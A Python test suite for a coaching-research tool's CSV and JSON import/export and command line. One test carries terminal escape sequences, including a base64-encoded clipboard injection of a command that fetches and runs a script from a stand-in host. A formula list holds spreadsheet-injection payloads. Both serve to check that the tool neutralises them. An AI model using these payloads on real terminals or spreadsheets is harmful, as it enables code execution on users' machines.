"""Turns out to researchers' tools and back: exact round trips, bad rows named by line, the CLI."""

from __future__ import annotations

import csv
import io
import json
import re
import stat
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from coachtui.core.interchange import MAX_NOTE_CHARS, format_turns, parse_turns
from coachtui.core.model import TURN_COLUMNS, Stage, Turn
from coachtui.core.vocabulary import vocabulary
from coachtui.errors import EXIT_DATA, EXIT_USAGE, DataFileError
from coachtui.services.demo import seed_demo
from coachtui.store import Store
from coachtui.text import clean_text
from tests.helpers import RunCli, rows, scalar

VOCAB = vocabulary()
HEADER = ",".join(TURN_COLUMNS)
# Characters that trouble CSV and JSON writers, mixed into text as people type and paste it.
AWKWARD = ',"\'\n\r\t ;\\\x00é—“”😀\u2028\u00a0'
# Text as the store keeps it (no control characters but tab and newline, no lone surrogates), and no
# surrounding spaces where the store trims them.
free_text = st.text(st.one_of(st.sampled_from(AWKWARD), st.characters()), max_size=40).map(clean_text)
trimmed_text = free_text.map(str.strip)


@st.composite
def turns(draw: st.DrawFn) -> Turn:
    def pick(key: str, *, blank: bool = False) -> str:
        values = [v for v in VOCAB.values(key) if v]
        return draw(st.sampled_from([*values, ""] if blank else values))

    return Turn(
        t=draw(st.floats(min_value=0, max_value=86_400, allow_nan=False, allow_infinity=False)),
        speaker=pick("speaker"), function=pick("function"), initiation=pick("initiation", blank=True),
        subject=draw(trimmed_text), stimulus=pick("stimulus"), scale=pick("scale", blank=True),
        tone=pick("tone"), time=pick("time", blank=True), co_construction=draw(st.booleans()),
        observer=draw(trimmed_text), note=draw(free_text),
    )


def csv_row(t: str = "1", speaker: str = "coach", function: str = "question", *, tone: str = "neutral",
            co: str = "0", observer: str = "Jo", note: str = "") -> str:
    return f"{t},{speaker},{function},,,none,,{tone},,{co},{observer},{note}"


def json_row(**changes: object) -> str:
    record = {"t": 1, "speaker": "coach", "function": "question", "initiation": "", "subject": "",
              "stimulus": "none", "scale": "", "tone": "neutral", "time": "", "co_construction": 0,
              "observer": "Jo", "note": ""} | changes
    return json.dumps(record)


def refusal(text: str, fmt: str | None = None) -> list[str]:
    """The problem lines of the error a file is refused with."""
    with pytest.raises(DataFileError) as caught:
        parse_turns(text, fmt)
    return [line.strip() for line in str(caught.value).splitlines()[1:]]


# -- round trips --------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "json"])
@given(many=st.lists(turns(), max_size=12))
@settings(max_examples=80, deadline=None)
def test_export_then_import_gives_the_same_turns(fmt: str, many: list[Turn]) -> None:
    text = format_turns(many, fmt)
    assert parse_turns(text, fmt) == many
    assert parse_turns(text) == many, "the format is recognised without being named"
    assert format_turns(parse_turns(text), fmt) == text, "re-exporting gives the same text"


@pytest.mark.parametrize("fmt", ["csv", "json"])
@given(many=st.lists(turns(), min_size=1, max_size=8))
@settings(max_examples=25, deadline=None)
def test_a_round_trip_through_the_database_file_keeps_every_field(tmp_path_factory: pytest.TempPathFactory,
                                                                  fmt: str, many: list[Turn]) -> None:
    path = tmp_path_factory.mktemp("db") / "coach.db"
    store = Store.open(path, durable=False)
    partnership = store.partnerships.create("Ana", "Sam")
    meeting = store.meetings.open(store.cycles.current(partnership.id).id, Stage.POST_LESSON)
    store.turns.add_many(meeting.id, parse_turns(format_turns(many, fmt)))
    store.close()
    reopened = Store.open(path, durable=False)
    try:
        # The store orders by time, then by when each was added.
        expected = sorted(many, key=lambda turn: turn.t)
        back = reopened.turns.of_meeting(meeting.id)
        assert [replace(turn, id=0) for turn in back] == expected
        assert format_turns(back, fmt) == format_turns(expected, fmt)
    finally:
        reopened.close()


def test_the_columns_and_values_are_the_documented_ones() -> None:
    turn = Turn(t=12.5, speaker="coachee", function="new idea", initiation="coachee", subject="hinge questions",
                stimulus="pupils' work", scale="lesson as a whole", tone="positive", time="future specific lessons",
                co_construction=True, observer="Jo", note="said twice")
    assert format_turns([turn], "csv").splitlines() == [
        ",".join(TURN_COLUMNS),
        "12.5,coachee,new idea,coachee,hinge questions,pupils' work,lesson as a whole,positive,"
        "future specific lessons,1,Jo,said twice",
    ]
    assert json.loads(format_turns([turn], "json")) == [{
        "t": 12.5, "speaker": "coachee", "function": "new idea", "initiation": "coachee",
        "subject": "hinge questions", "stimulus": "pupils' work", "scale": "lesson as a whole", "tone": "positive",
        "time": "future specific lessons", "co_construction": 1, "observer": "Jo", "note": "said twice"}]


def test_json_puts_each_turn_on_its_own_line() -> None:
    many = [Turn(t=float(i), speaker="coach", function="question", note="two\nlines") for i in range(3)]
    lines = format_turns(many, "json").splitlines()
    assert lines[0] == "[" and lines[-1] == "]" and len(lines) == 5
    assert [json.loads(line.rstrip(","))["t"] for line in lines[1:-1]] == [0.0, 1.0, 2.0]
    assert format_turns([], "json") == "[\n]\n" and parse_turns("[\n]\n") == []


def test_whole_seconds_and_json_flags_read_as_the_same_turn() -> None:
    expected = Turn(t=12.0, speaker="coach", function="challenge", co_construction=True, observer="Jo")
    assert parse_turns(HEADER + "\n" + csv_row("12", function="challenge", co="1")) == [expected]
    assert parse_turns(f"[{json_row(t=12, function='challenge', co_construction=True)}]") == [expected]
    assert parse_turns(f"[{json_row(t=12.0, function='challenge', co_construction=1)}]") == [expected]
    assert format_turns([expected], "csv").splitlines()[1].startswith("12.0,")


def test_columns_may_come_in_any_order_and_blanks_stay_untagged() -> None:
    header = ",".join(reversed(TURN_COLUMNS))
    text = header + '\n" keep my spaces ",  Jo  ,0,,,,,  hinge questions  ,,challenge,coach,7\n'
    # A blank stimulus or tone is not "none" or "neutral": nobody tagged it yet (a review pass will).
    assert parse_turns(text) == [Turn(t=7.0, speaker="coach", function="challenge", subject="hinge questions",
                                      stimulus="", tone="", observer="Jo", note=" keep my spaces ")]


@pytest.mark.parametrize("written", ["7", "7.25", "+7", ".5", "1e-05", "2.5E+3", " 7 "])
def test_csv_times_are_plain_decimals(written: str) -> None:
    assert parse_turns(HEADER + "\n" + csv_row(written))[0].t == float(written)


def test_a_spreadsheet_export_with_a_byte_order_mark_and_crlf_reads() -> None:
    text = "\ufeff" + HEADER + "\r\n" + csv_row("7", "coach", "challenge") + "\r\n"
    assert parse_turns(text) == [Turn(t=7.0, speaker="coach", function="challenge", observer="Jo")]
    assert parse_turns("\ufeff\n  [" + json_row(t=7, function="challenge") + "]") == [
        Turn(t=7.0, speaker="coach", function="challenge", observer="Jo")]


def test_a_lone_surrogate_in_json_becomes_a_replacement_character_as_in_the_store() -> None:
    escaped = json_row(note="NOTE").replace("NOTE", "caf\\ud800")  # JSON's own escape for a lone surrogate
    turn = parse_turns(f"[{escaped}]")[0]
    assert turn.note == "caf\ufffd"
    format_turns([turn], "json").encode("utf-8")  # writable as UTF-8 again


def test_a_note_up_to_the_limit_survives_and_a_longer_one_is_named() -> None:
    limit = csv.field_size_limit()
    turn = Turn(t=1.0, speaker="coachee", function="explanation", note="x" * MAX_NOTE_CHARS)
    assert parse_turns(format_turns([turn], "csv")) == [turn]
    too_long = format_turns([replace(turn, note="x" * (MAX_NOTE_CHARS + 1))], "csv")
    assert refusal(too_long) == ["line 2: note is 10,001 characters long; the limit is 10,000"]
    assert csv.field_size_limit() == limit, "the csv module's limit is put back"


# -- bad rows, named by line --------------------------------------------------------------------


def test_bad_csv_rows_are_named_by_their_line_and_nothing_is_taken() -> None:
    text = "\n".join([
        HEADER,
        csv_row("1", note='"a note'),              # line 2: a note over two lines
        'that goes on"',
        "",                                        # line 4: blank, skipped
        csv_row("2", function="questoin"),         # line 5: misspelt function
        csv_row("3", co="2"),                      # line 6: co_construction 2
        csv_row("-4"),                             # line 7: negative time
        csv_row("5", tone="loud"),                 # line 8: unknown tone
        csv_row("6"),                              # line 9: fine
    ]) + "\n"
    assert refusal(text) == [
        "line 5: unknown function 'questoin' (expected one of the 15 in the guide)",
        "line 6: co_construction must be 0 or 1, not '2'",
        "line 7: t must be between 0 and 86,400 seconds (a day) from the meeting's start, not '-4'",
        "line 8: unknown tone 'loud' (expected very negative, negative, neutral, positive or very positive)",
    ]


def test_a_quoted_note_with_crlf_line_breaks_counts_its_lines() -> None:
    text = "\r\n".join([HEADER, csv_row("1", note='"first\r\nsecond\r\nthird"'), csv_row("2", speaker="teacher")])
    assert refusal(text) == ["line 5: unknown speaker 'teacher' (expected coach, coachee or observer)"]


def test_every_problem_in_a_row_is_named_together() -> None:
    text = HEADER + "\n" + csv_row("soon", "teacher", "quiz", co="") + "\n"
    assert refusal(text) == ["line 2: t must be a number of seconds, not 'soon'; co_construction must be 0 or 1, "
                             "not empty; unknown speaker 'teacher' (expected coach, coachee or observer); "
                             "unknown function 'quiz' (expected one of the 15 in the guide)"]


@pytest.mark.parametrize("written", ["1_000", "١٢", "nan", "inf", "0x10", "12s", ""])
def test_csv_times_that_are_not_plain_decimals_are_refused(written: str) -> None:
    (problem,) = refusal(HEADER + "\n" + csv_row(written))
    assert problem.startswith("line 2: t ") and ("number of seconds" in problem or "empty" in problem)


def test_rows_with_too_few_or_too_many_fields_are_named() -> None:
    text = "\n".join([HEADER, "1,coach,question", csv_row() + ",extra", csv_row()])
    assert refusal(text) == ["line 2: the row has 3 fields where the header has 12",
                             "line 3: the row has 13 fields where the header has 12"]


def test_after_twenty_problems_the_rest_are_counted() -> None:
    text = "\n".join([HEADER] + [csv_row(str(i), function="quiz") for i in range(25)])
    problems = refusal(text)
    assert len(problems) == 21 and problems[0].startswith("line 2: ") and problems[19].startswith("line 21: ")
    assert problems[-1] == "and 5 more"
    with pytest.raises(DataFileError, match=r"^25 bad rows; nothing was imported:"):
        parse_turns(text)


def test_control_characters_in_free_text_are_dropped_as_the_file_is_read() -> None:
    # OSC 52 sets the clipboard, OSC 2 the window title, ESC [2J clears the screen; C1 CSI colours.
    hostile = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveC5zaCB8IHNo\x07Jo\x1b]2;owned\x07\x1b[2J\x9b31m"
    text = HEADER + "\n" + csv_row(observer=hostile, note=f'"{hostile}\r\nsecond line"') + "\n"
    (turn,) = parse_turns(text)
    assert turn.observer == "]52;c;Y3VybCBldmlsLmV4YW1wbGUveC5zaCB8IHNoJo]2;owned[2J31m"
    assert turn.note == turn.observer + "\nsecond line"
    (turn,) = parse_turns(f"[{json_row(subject=hostile, observer=hostile, note=hostile)}]")
    assert {turn.subject, turn.observer, turn.note} == {"]52;c;Y3VybCBldmlsLmV4YW1wbGUveC5zaCB8IHNoJo]2;owned[2J31m"}


def test_control_characters_in_a_bad_value_cannot_break_or_colour_the_message() -> None:
    text = HEADER + "\n" + csv_row(speaker='"\x1b[31mco\nach"') + "\n"
    (problem,) = refusal(text)
    assert problem.startswith("line 2: unknown speaker '\\x1b[31mco\\nach'")
    assert "\x1b" not in problem


def test_bad_json_rows_are_named_by_the_line_they_start_on() -> None:
    good = json_row()
    spread = good.replace(', "stimulus"', ',\n "stimulus"')  # one object over two lines
    text = "[\n" + ",\n".join([spread, json_row(t="soon"), '{"t": 3}', json_row(co_construction="1"),
                               "[1, 2]", json_row(t=True), json_row(mood="calm"), good]) + "\n]\n"
    assert refusal(text) == [
        'line 4: t must be a number of seconds, not "soon"',
        "line 5: missing speaker, function, initiation, subject, stimulus, scale, tone, time, co_construction, "
        "observer, note",
        'line 6: co_construction must be 0, 1, true or false, not "1"',
        "line 7: each item of the array must be an object of a turn's fields, not [1, 2]",
        "line 8: t must be a number of seconds, not true",
        "line 9: unknown field mood",
    ]


@pytest.mark.parametrize(("text", "says"), [
    ("", "The file is empty"),
    ("  \r\n\n", "The file is empty"),
    ("t,speaker,function\n1,coach,question\n", "missing initiation"),
    (HEADER + ",mood\n", "unknown mood"),
    (HEADER + ",t\n", "repeated t"),
    (HEADER + "\n" + csv_row(note='"never closed') + "\n" + csv_row() + "\n", "not readable as CSV (line 3)"),
    ("[1, 2", "not valid JSON (line 1"),
    ("[\n" + json_row() + ",\n]", "not valid JSON (line 3"),
    ('{"t": 1}', "starts with '['"),
    ("[] []", "more after its array (line 1)"),
    ("[" * 100_000, "nested too deeply"),
    ("[" + "1" * 5000 + "]", "too long"),
])
def test_files_that_are_not_turns_are_refused_with_a_reason(text: str, says: str) -> None:
    with pytest.raises(DataFileError, match=re.escape(says)):
        parse_turns(text)


def test_a_json_time_too_large_for_a_float_is_a_bad_row_not_a_crash() -> None:
    assert refusal("[" + json_row().replace('"t": 1', '"t": 1' + "0" * 400) + "]") == [
        "line 1: t is far too large to be seconds from the meeting's start"]


# -- the command line, on a real database file ----------------------------------------------


@pytest.fixture
def demo_db(tmp_path: Path) -> Path:
    path = tmp_path / "coach.db"
    store = Store.open(path, durable=False)
    seed_demo(store)
    store.close()
    return path


@pytest.fixture
def empty_db(tmp_path: Path) -> Path:
    path = tmp_path / "empty.db"
    Store.open(path, durable=False).close()
    return path


def test_export_prints_one_observers_turns_and_logs_it(demo_db: Path, run_cli: RunCli) -> None:
    done = run_cli("--db", str(demo_db), "export-turns", "--meeting", "1", "--observer", "Jo")
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert lines[0] == HEADER
    assert len(lines) == 1 + 22 and all(line.split(",")[10] == "Jo" for line in lines[1:])
    assert rows(demo_db, "SELECT what, destination, partnership_id, meeting_id FROM export_log") == [
        {"what": "turns of meeting 1 (csv, Jo's tags)", "destination": "standard output",
         "partnership_id": scalar(demo_db, "SELECT partnership_id FROM cycle JOIN meeting ON cycle_id = cycle.id "
                                  "WHERE meeting.id = 1"),
         "meeting_id": 1}]


def test_export_to_a_file_is_private_and_never_overwrites(tmp_path: Path, demo_db: Path, run_cli: RunCli) -> None:
    args = ("--db", str(demo_db), "export-turns", "--meeting", "1", "--format", "json", "--output", "turns.json")
    done = run_cli(*args)
    assert done.returncode == 0, done.stderr
    written = tmp_path / "turns.json"
    assert stat.S_IMODE(written.stat().st_mode) == 0o600
    assert len(json.loads(written.read_text(encoding="utf-8"))) == 22 + 21
    assert "turns.json" in done.stdout and "{" not in done.stdout, "the turns go to the file, not the screen"
    assert rows(demo_db, "SELECT destination FROM export_log") == [{"destination": str(written.resolve())}]

    written.write_text("keep me", encoding="utf-8")
    again = run_cli(*args)
    assert again.returncode == EXIT_DATA
    assert "already exists" in again.stderr and "--force" in again.stderr
    assert written.read_text(encoding="utf-8") == "keep me"
    assert scalar(demo_db, "SELECT count(*) FROM export_log") == 1, "a refused export is not logged"
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


def test_force_replaces_a_file_and_makes_it_private(tmp_path: Path, demo_db: Path, run_cli: RunCli) -> None:
    target = tmp_path / "turns.csv"
    target.write_text("old", encoding="utf-8")
    target.chmod(0o644)
    done = run_cli("--db", str(demo_db), "export-turns", "--meeting", "2", "--output", "turns.csv",
                   "--force")
    assert done.returncode == 0, done.stderr
    assert target.read_text(encoding="utf-8").startswith(HEADER)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert scalar(demo_db, "SELECT count(*) FROM export_log WHERE meeting_id = 2") == 1


def test_import_into_a_new_meeting_prints_its_id_last(
        tmp_path: Path, demo_db: Path, empty_db: Path, run_cli: RunCli) -> None:
    exported = run_cli("--db", str(demo_db), "export-turns", "--meeting", "1", "--observer", "Priya")
    (tmp_path / "priya.csv").write_text(exported.stdout, encoding="utf-8", newline="")
    done = run_cli("--db", str(empty_db), "import-turns", "priya.csv")
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[0].startswith("Imported 21 turns from priya.csv")
    meeting_id = int(done.stdout.splitlines()[-1])
    again = run_cli("--db", str(empty_db), "export-turns", "--meeting", str(meeting_id))
    assert again.stdout == exported.stdout, "export then import reproduces the turns exactly"
    assert rows(empty_db, "SELECT coach, coachee FROM partnership") == [{"coach": "Imported", "coachee": "priya"}]
    last_t = max(float(line.split(",")[0]) for line in exported.stdout.splitlines()[1:])
    assert rows(empty_db, "SELECT stage, clock_elapsed, ended_at IS NOT NULL AS ended FROM meeting WHERE id = ?",
                (meeting_id,)) == [{"stage": int(Stage.POST_LESSON), "clock_elapsed": last_t, "ended": 1}]


def test_a_json_file_is_recognised_by_its_content(
        tmp_path: Path, demo_db: Path, empty_db: Path, run_cli: RunCli) -> None:
    exported = run_cli("--db", str(demo_db), "export-turns", "--meeting", "1", "--format", "json")
    (tmp_path / "both observers.txt").write_text(exported.stdout, encoding="utf-8")
    done = run_cli("--db", str(empty_db), "import-turns", "both observers.txt")
    assert done.returncode == 0, done.stderr
    meeting_id = done.stdout.splitlines()[-1]
    for observer in ("Jo", "Priya"):
        original = run_cli("--db", str(demo_db), "export-turns", "--meeting", "1", "--observer", observer)
        copied = run_cli("--db", str(empty_db), "export-turns", "--meeting", meeting_id,
                         "--observer", observer)
        assert copied.stdout == original.stdout


def test_import_into_an_existing_meeting_adds_to_it(tmp_path: Path, demo_db: Path, run_cli: RunCli) -> None:
    before = scalar(demo_db, "SELECT count(*) FROM turn WHERE meeting_id = 2")
    (tmp_path / "more.csv").write_text(HEADER + "\n" + csv_row("500", function="summary", observer="Sam") + "\n")
    done = run_cli("--db", str(demo_db), "import-turns", "more.csv", "--meeting", "2")
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == ["Imported 1 turn from more.csv into meeting 2.", "2"]
    assert scalar(demo_db, "SELECT count(*) FROM turn WHERE meeting_id = 2") == before + 1
    assert scalar(demo_db, "SELECT count(*) FROM turn JOIN observer ON observer.id = observer_id "
                  "WHERE turn.meeting_id = 2 AND code = 'Sam'") == 1
    coaching = "SELECT count(*) FROM partnership WHERE kind = 'coaching'"
    assert scalar(demo_db, coaching) == 2, "no partnership is made for it"


def test_a_bad_file_imports_nothing(tmp_path: Path, empty_db: Path, run_cli: RunCli) -> None:
    (tmp_path / "bad.csv").write_text("\n".join([HEADER, csv_row("1"), csv_row("2", function="quiz")]) + "\n")
    done = run_cli("--db", str(empty_db), "import-turns", "bad.csv")
    assert done.returncode == EXIT_DATA
    assert done.stderr.splitlines() == ["coachtui: 1 bad row; nothing was imported:",
                                        "  line 3: unknown function 'quiz' (expected one of the 15 in the guide)"]
    assert done.stdout == ""
    for table in ("turn", "meeting", "partnership", "observer"):
        assert scalar(empty_db, f"SELECT count(*) FROM {table}") == 0, table


def test_a_missing_file_does_not_even_create_the_database(tmp_path: Path, run_cli: RunCli) -> None:
    done = run_cli("--db", str(tmp_path / "new.db"), "import-turns", "missing.csv")
    assert done.returncode == EXIT_DATA
    assert done.stderr == "coachtui: There is no file missing.csv.\n"
    assert not (tmp_path / "new.db").exists()


@pytest.mark.parametrize(("args", "says"), [
    (("import-turns", "missing.csv"), "There is no file missing.csv"),
    (("import-turns", "latin1.csv"), "not UTF-8"),
    (("import-turns", "folder"), "is a folder"),
    (("export-turns", "--meeting", "99"), "There is no meeting 99"),
    (("export-turns", "--meeting", "1", "--output", "folder"), "is a folder"),
    (("export-turns", "--meeting", "1", "--output", "nowhere/turns.csv"), "Cannot write nowhere/turns.csv"),
    (("import-turns", "ok.csv", "--meeting", "99"), "There is no meeting 99"),
])
def test_wrong_files_and_meetings_get_one_line_and_exit_4(tmp_path: Path, demo_db: Path, args: tuple[str, ...],
                                                          says: str, run_cli: RunCli) -> None:
    (tmp_path / "latin1.csv").write_bytes(HEADER.encode() + b"\n1,coach,question,,caf\xe9,none,,neutral,,0,,\n")
    (tmp_path / "ok.csv").write_text(HEADER + "\n" + csv_row() + "\n")
    (tmp_path / "folder").mkdir()
    before = scalar(demo_db, "SELECT count(*) FROM turn")
    done = run_cli("--db", str(demo_db), *args)
    assert done.returncode == EXIT_DATA
    assert says in done.stderr and done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
    assert scalar(demo_db, "SELECT count(*) FROM turn") == before
    assert scalar(demo_db, "SELECT count(*) FROM export_log") == 0


# -- the report reads the same turns ----------------------------------------------------------


def test_report_gives_the_level_reasons_counts_and_indicators(demo_db: Path, run_cli: RunCli) -> None:
    done = run_cli("--db", str(demo_db), "report", "--meeting", "1", "--observer", "Jo", "--json")
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert report["level"] == 2 and report["observer"] == "Jo"
    assert report["margin"]["up"]["one_tag"][0] == "one more strand opened by the coachee"
    assert report["reasons"] and all(isinstance(reason, str) for reason in report["reasons"])
    assert report["counts"]["question"] == 3 and set(report["counts"]) == set(VOCAB.functions)
    assert report["indicators"]["turns"] == 22


def test_report_asks_whose_tags_when_several_observers_tagged(demo_db: Path, run_cli: RunCli) -> None:
    done = run_cli("--db", str(demo_db), "report", "--meeting", "1", "--json")
    assert done.returncode == EXIT_USAGE
    assert "tagged by Jo, Priya" in done.stderr and "--observer" in done.stderr


def test_imported_turns_feed_the_same_report(tmp_path: Path, demo_db: Path, empty_db: Path, run_cli: RunCli) -> None:
    exported = run_cli("--db", str(demo_db), "export-turns", "--meeting", "1", "--observer", "Jo")
    (tmp_path / "jo.csv").write_text(exported.stdout, encoding="utf-8", newline="")
    meeting_id = run_cli("--db", str(empty_db), "import-turns", "jo.csv").stdout.splitlines()[-1]
    original = json.loads(run_cli("--db", str(demo_db), "report", "--meeting", "1", "--observer",
                                  "Jo").stdout)
    imported = json.loads(run_cli("--db", str(empty_db), "report", "--meeting", meeting_id).stdout)
    assert {k: v for k, v in imported.items() if k != "meeting"} == {
        k: v for k, v in original.items() if k != "meeting"}


FORMULAS = ['=HYPERLINK("http://evil.example","click")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1", "-2 pupils",
            "\tlead", "'=already quoted", "''+two", "'plain", "plain", "it's = fine"]


def test_formula_cells_are_written_as_text_and_read_back_as_typed() -> None:
    many = [Turn(t=float(i), speaker="coach", function="question", note=text, subject=text.strip(),
                 observer=text.strip()) for i, text in enumerate(FORMULAS)]
    text = format_turns(many, "csv")
    for record in csv.DictReader(io.StringIO(text)):
        for name in ("note", "subject", "observer"):
            assert not record[name].startswith(("=", "+", "-", "@", "\t", "\r")), record[name]
    assert next(csv.DictReader(io.StringIO(text)))["note"] == "'" + FORMULAS[0]
    assert parse_turns(text) == many
    assert "'=HYPERLINK" not in format_turns(many, "json"), "JSON is read by programs, not spreadsheets"
